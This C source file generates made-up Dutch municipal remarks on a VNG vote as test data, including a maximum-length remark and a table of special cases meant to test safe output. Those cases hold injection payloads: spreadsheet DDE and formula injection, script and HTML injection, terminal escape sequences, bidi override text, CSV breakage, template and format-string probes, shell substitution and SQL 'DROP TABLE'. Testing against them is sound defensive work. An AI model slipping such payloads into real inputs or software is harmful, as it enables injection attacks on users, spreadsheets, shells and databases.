/* SPDX-License-Identifier: EUPL-1.2 */
/* The remarks: all invented. One member in seven has one. */
#include "remarks.h"

#include "chance.h"

#define ONE_IN 7
#define LONGEST 4096 /* bytes of a remark: VT_REMARK_MAX */

static const char *const in_favour[] = {
    "Voor, mits het Rijk de kosten structureel vergoedt, ook na 2028.",
    "Wij stemmen voor, maar vragen om een realistisch tijdpad. Onze organisatie is klein en de "
    "arbeidsmarkt is krap.",
    "Voor. Wel vragen wij aandacht voor gegevensuitwisseling: zonder landelijke standaarden en een "
    "wettelijke grondslag komt dit niet van de grond.",
    "Het college is blij met de aandacht voor preventie. Graag zien wij dat de middelen "
    "rechtstreeks naar gemeenten gaan en niet via de zorgverzekeraars.",
    "Voor, onder de voorwaarde dat de afspraken over mantelzorg en respijtzorg lokaal ingevuld "
    "mogen worden.",
    "Akkoord. Wij verwachten dat de VNG de leden elk half jaar meldt hoe de uitvoering verloopt.",
    "Voor, mits de regionale samenwerking geen extra bestuurslaag wordt.",
    "Instemming past bij ons beleidsplan sociaal domein.\nWij zien drie aandachtspunten:\n"
    "1. de financiering na de looptijd;\n2. de krappe arbeidsmarkt;\n3. de rol van de wijkteams.",
    "Voor, mits er een evaluatie komt na twee jaar, met een uitstapmogelijkheid.",
};

static const char *const against[] = {
    "Tegen: de extra taken zijn niet volledig gedekt. Dit is in strijd met artikel 2 van de "
    "Financiële-verhoudingswet.",
    "Het college vindt de termijn van zes weken te kort om de raad goed te betrekken.",
    "Tegen. Voor een kleine gemeente is de uitvoering niet te doen zonder extra mensen.",
    "De gevolgen voor de Wmo zijn niet doorgerekend. Wij kunnen nu niet instemmen.",
    "Tegen, omdat de afspraken over ouderenzorg de druk op mantelzorgers vergroten.",
    "Wij steunen de doelen, maar niet de verdeling van de middelen. Na een nieuw voorstel kijken "
    "wij er graag opnieuw naar.",
    "Onze regio heeft geen tweedelijnsvoorziening meer. Het akkoord lost dat niet op.",
};

/* Of these members for certain: what must do no harm in a terminal, a spreadsheet, a page or a report;
 * and what must come through whole. */
static const struct {
    const char *code, *remark;
} special[] = {
    {"GM0060", "=HYPERLINK(\"https://voorbeeld.invalid/?q=\"&A1;\"Klik hier voor onze reactie\")"},
    {"GM0072", "=cmd|' /C calc'!A0"},
    {"GM0086", "+31-0; @SUM(A1:A9); -2+3"},
    {"GM0090", "@SUM(1+1)*cmd|' /C calc'!A0"},
    {"GM0114", "<script>alert('toelichting')</script><img src=x onerror=\"alert(1)\">"},
    {"GM0243", "</td></tr></table><h1>Aangenomen met 100%</h1><style>body{display:none}</style>"},
    {"GM0106", "\x1b[2J\x1b[1;31mDEZE GEMEENTE STEMT TEGEN\x1b[0m\x1b]0;gekaapt\x07"},
    {"GM0193", "Wij stemmen \xe2\x80\xaeneget\xe2\x80\xac\xe2\x80\x8b en dat staat vast."},
    {"GM0294", "\"voor\";\"tegen\",\"GM0363\"\n\"99999\";\"voor\"\r\n\tEen eigen regel\r\n"},
    {"GM0353", "{{7*7}} ${7*7} %s%s%n $(touch /tmp/x) `id` '; DROP TABLE stemmen; --"},
    {"GM0361", "\xf0\x9f\x91\x8d\xf0\x9f\x8f\xbd Akkoord! \xd9\x85\xd9\x88\xd8\xa7\xd9\x81\xd9\x82 "
               "\xe5\x90\x8c\xe6\x84\x8f \u00e9\u00e9n stem, e\xcc\x81"
               "\xf0\x9f\x8f\xb3"},
    {"GM0080", "It kolleezje freget omtinken foar soarch yn 'e eigen taal."},
};

/* As long as a remark may be, to the byte. */
static const char longest_code[] = "GM0400";
static const char sentence[] = "De uitvoering vraagt tijd, mensen en geld. ";

static void put_longest(struct vt_buf *out)
{
    for (size_t left = LONGEST; left > 0;) {
        struct vt_bytes part = vt_bytes_part(vt_bytes_of(sentence), 0, left);
        vt_buf_put(out, part);
        left -= part.len;
    }
}

void remark_put(struct vt_buf *out, struct vt_bytes code, enum remark_mood mood)
{
    for (size_t i = 0; i < sizeof special / sizeof special[0]; i++) {
        if (vt_bytes_equal(vt_bytes_of(special[i].code), code)) {
            vt_buf_put_text(out, special[i].remark);
            return;
        }
    }
    if (vt_bytes_equal(vt_bytes_of(longest_code), code)) {
        put_longest(out);
    } else if (chance("has a remark", code, ONE_IN) == 0) {
        const char *const *texts = mood == REMARK_FOR ? in_favour : against;
        uint32_t count = mood == REMARK_FOR ? sizeof in_favour / sizeof in_favour[0]
                                            : sizeof against / sizeof against[0];
        vt_buf_put_text(out, texts[chance("which remark", code, count)]);
    }
}
